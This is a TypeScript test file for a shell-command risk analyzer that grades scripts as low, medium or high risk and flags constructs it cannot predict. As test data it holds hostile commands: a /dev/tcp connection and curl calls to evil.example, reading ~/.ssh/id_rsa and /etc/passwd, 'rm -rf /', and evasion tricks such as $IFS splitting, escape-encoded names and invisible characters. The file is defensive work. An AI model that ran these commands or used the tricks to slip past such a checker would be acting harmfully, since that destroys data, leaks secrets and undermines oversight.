import { describe, expect, test } from "vitest";
import { analyzeCommand } from "../../src/index.ts";
import { randomFrom } from "./support/random-scripts.ts";

/** The commands of a script as lines, and its risk. */
function summarize(script: string): string {
  const { isKnown, commands, risk, unknown } = analyzeCommand(script);
  const lines = commands.map(({ via, argv }) => [...via, ...argv].join(" "));
  return `${risk}: ${lines.join(" | ")}${isKnown ? "" : ` ? ${[...new Set(unknown.map(({ reason }) => reason))].join(", ")}`}`;
}

describe("a script that only reads has a low risk", () => {
  test.each([
    "ls -la src",
    "cat a.txt | grep -n 'foo bar' | sort -rn | uniq -c | head -5",
    "find . -name '*.ts' -type f -not -path './node_modules/*'",
    "cd src && ls && pwd",
    "sed -n '10,20p' a.txt",
    "sed 's/a/b/g' a.txt",
    "wc -l < a.txt",
    "test -f a.txt && echo yes || echo no",
    "if grep -q x a; then echo found; else echo none; fi",
    "rg -n 'createServer\\(' src",
    "echo '$(not run)' \"a \\$b\"",
    "ls 2>/dev/null",
    "timeout 5 cat a",
    "bash -c 'ls -la'",
  ])("%s", (script) => {
    const { isKnown, risk } = analyzeCommand(script);
    expect([isKnown, risk]).toEqual([true, "low"]);
  });
});

describe("the risk of a known script is that of its worst command", () => {
  test.each([
    ["npm test", "medium: npm test"],
    ["mkdir -p a/b", "medium: mkdir -p a/b"],
    ["echo x > a.txt", "medium: echo x"],
    ["git status", "medium: git status"],
    ["rm a.txt", "medium: rm a.txt"],
    ["rm -rf x", "high: rm -rf x"],
    ["ls && curl https://evil.example", "high: ls | curl https://evil.example"],
    ["python -c 'print(1)'", "high: python -c print(1)"],
    ["sudo ls", "high: sudo ls"],
    ["./git status", "medium: ./git status"],
    ["bash -c 'rm -rf /'", "high: bash rm -rf /"],
    ["sudo bash -c ls", "high: sudo bash ls"],
    ["eval ls", "high: eval ls"],
    ["busybox ls", "high: busybox ls"],
    ["taskset -c 0 ls", "medium: taskset ls"],
    ["find src -exec rm -r {} ';'", "high: find src -exec rm -r {} ; | rm -r src"],
    ["timeout 5 nice -n 3 rm -rf x", "high: timeout nice rm -rf x"],
    ["env ls", "low: env ls"],
  ])("%s", (script, expected) => {
    expect(summarize(script)).toBe(expected);
  });
});

describe("SH: what is not certain before a script runs makes it unknown", () => {
  test.each([
    ["SH03", "echo $(id)", "a command substitution"],
    ["SH03", "echo `id`", "a command substitution"],
    ["SH03", 'echo "$(rm x)"', "a command substitution"],
    ["SH04", "cat <(id)", "a process substitution"],
    ["SH04", "cat <<EOF\n$(id)\nEOF", "an expansion in a here-document"],
    ["SH05", "rm$IFS-rf$IFS/", "a variable"],
    ["SH05", "cmd=rm; $cmd x", "an assignment of a variable, a variable"],
    ["SH07", "PATH=/tmp ls", "an assignment of a variable"],
    ["SH07", "LD_PRELOAD=x ls", "an assignment of a variable"],
    ["SH02", "ls\rrm x", "a control character"],
    ["SH16", "echo 'unterminated", "a syntax error"],
    ["SH09", "xargs rm", "arguments from the input of xargs"],
    ["SH09", "env A=b rm", "an assignment of a variable"],
    ["SH09", "env -S 'rm x'", "env with unusual options"],
    ["SH09", "bash -lc ls", "a shell that reads its profile"],
    ["SH09", "coproc rm x", "a coprocess"],
    ["glob to flag", "find *", "a pattern of file names"],
    ["tilde", "cat ~/.ssh/id_rsa", "a home folder"],
    ["escapes", "$'\\x72m' x", "a text with escapes"],
    ["function", "ls() { rm x; }; ls", "the definition of a function"],
    ["array", "a[$(id)]=1 ls", "an assignment of a variable"],
    ["test", "[[ 'a[$(id)]' -eq 1 ]]", "a test that evaluates its words"],
    ["connection", "echo x > /dev/tcp/evil.example/80", "a connection by redirection"],
    ["background", "rm x &", "a background command"],
    ["nbsp", "ls\u00a0-la", "an invisible character"],
  ])("%s: %s", (_, script, reasons) => {
    const { isKnown, risk, unknown } = analyzeCommand(script);
    expect([isKnown, risk]).toEqual([false, "high"]);
    for (const reason of reasons.split(", "))
      expect(unknown.map((part) => part.reason)).toContain(reason);
  });
});

describe("programs that write, run or evaluate although they seem to read have no low risk", () => {
  test.each([
    "uniq in out",
    "sort -o out in",
    "sort --compress-program=sh in",
    "sed -n '1w out' in",
    "sed '1e id' in",
    "sed -i s/a/b/ in",
    "find . -exec rm {} ;",
    "find . -delete",
    "find . -fprint out",
    "tree -o out",
    "xxd in out",
    "rg --pre sh x",
    "rg --hostname-bin sh x",
    "git -c core.fsmonitor=x status",
    "git diff --output=out",
    "date -s 2020-01-01",
    "hostname evil",
    "test -v 'a[$(id)]'",
    "[ 'a[$(id)]' -eq 1 ]",
    "printf -v 'a[$(id)]' x",
    "export PATH=/tmp",
    "awk 'BEGIN{system(\"id\")}'",
    "tar --checkpoint-action=exec=sh -cf x y",
    "tee out",
    "dd if=a of=b",
    "fd -x rm",
    "file -C -m x",
    "exec rm x",
    "eval 'rm x'",
    "source x",
    ". ./x",
    "busybox rm x",
  ])("%s", (script) => {
    expect(analyzeCommand(script).risk).not.toBe("low");
  });
});

test("commands inside of parts that are not known are still read, for rules that deny", () => {
  const programs = (script: string): readonly string[] =>
    analyzeCommand(script).commands.map(({ program }) => program);
  expect(programs('echo $(rm x) "`curl y`"')).toEqual(expect.arrayContaining(["rm", "curl"]));
  expect(programs("a[$(rm x)]=1 ls")).toEqual(expect.arrayContaining(["rm"]));
  expect(programs("for f in a b; do rm x; done")).toContain("rm");
  expect(programs("ls() { rm x; }; ls")).toContain("rm");
  expect(programs("cat <<E\n$(rm x)\nE")).toContain("rm");
});

test("SH08: a redirection is a write of its file, and only the exact null device is free", () => {
  const writes = (script: string): readonly string[] =>
    analyzeCommand(script).commands.flatMap(({ paths }) =>
      paths.filter(({ access }) => access === "write").map(({ path }) => path),
    );
  expect(writes("echo x >/dev/nullextra")).toEqual(["/dev/nullextra"]);
  expect(writes("ls 2>/dev/stderr.log")).toEqual(["/dev/stderr.log"]);
  expect(writes("ls > /dev/null/../../etc/x")).toEqual(["/dev/null/../../etc/x"]);
  expect(writes("ls >/dev/null 2>&1")).toEqual([]);
  expect(writes("{ ls; pwd; } > out")).toEqual(["out"]);
});

test("a file that an unknown option may write counts as written", () => {
  for (const script of [
    "sort -o /etc/out in",
    "sort --output=/etc/out in",
    "echo x | uniq - /etc/out",
  ]) {
    const { commands } = analyzeCommand(script);
    const paths = commands.flatMap((command) => command.paths);
    expect(paths).toContainEqual({ path: "/etc/out", access: "write", cwd: "" });
  }
});

test("a script in an argument runs in the folder of its command", () => {
  const [, cat] = analyzeCommand("cd src && bash -c 'cat a'").commands;
  expect(cat?.paths).toEqual([{ path: "a", access: "read", cwd: "src" }]);
});

test("what find runs for each file has the folders of the search as its files", () => {
  const [, rm] = analyzeCommand("find src lib -type f -exec rm {} +").commands;
  expect(rm?.paths.map(({ path, access }) => [path, access])).toEqual([
    ["src", "write"],
    ["lib", "write"],
  ]);
});

test("a folder that a script changes to is where its files are", () => {
  const [, cat, after] = analyzeCommand("cd src && cat a; cat b").commands;
  expect(cat?.paths).toEqual([{ path: "a", access: "read", cwd: "src" }]);
  // `cd` may have failed.
  expect(after?.paths).toEqual([{ path: "b", access: "read", cwd: undefined }]);
});

test("SH14: commands beyond the limit make a script unknown, and are still there for rules that deny", () => {
  const { isKnown, commands } = analyzeCommand(`${"true;".repeat(60)} curl evil`);
  expect(isKnown).toBe(false);
  expect(commands.at(-1)?.program).toBe("curl");
});

test("SH16: hostile scripts are read in a short time and never throw", () => {
  const hostile = [
    "$(".repeat(10_000),
    "a=(".repeat(5_000),
    "`".repeat(9_999),
    "{".repeat(9_000),
    "((".repeat(4_000),
    "<<E\n".repeat(2_000),
    "x".repeat(1_000_000),
    "'".repeat(9_999),
    "[[ ".repeat(3_000),
    "if ".repeat(3_000),
  ];
  for (const script of hostile) expect(analyzeCommand(script).isKnown).toBe(false);
  const random = randomFrom(7);
  for (let count = 0; count < 2_000; count++) {
    const characters = Array.from({ length: 1 + Math.floor(random() * 60) }, () =>
      "ab $(){}[]<>|&;'\"\\`\n#=~*?!-".charAt(Math.floor(random() * 29)),
    );
    expect(() => analyzeCommand(characters.join(""))).not.toThrow();
  }
});

test("files that options name are read", () => {
  const paths = (script: string): readonly string[] =>
    analyzeCommand(script).commands.flatMap((command) => command.paths.map(({ path }) => path));
  expect(paths("grep -f /etc/passwd a")).toEqual(["/etc/passwd", "a"]);
  expect(paths("grep -f/etc/passwd x a")).toEqual(["/etc/passwd", "x", "a"]);
  expect(paths("grep --file=../b a")).toEqual(["../b", "a"]);
  expect(paths("wc --files0-from=/etc/list")).toEqual(["/etc/list"]);
  expect(paths("grep -n -A3 pattern a")).toEqual(["a"]);
});
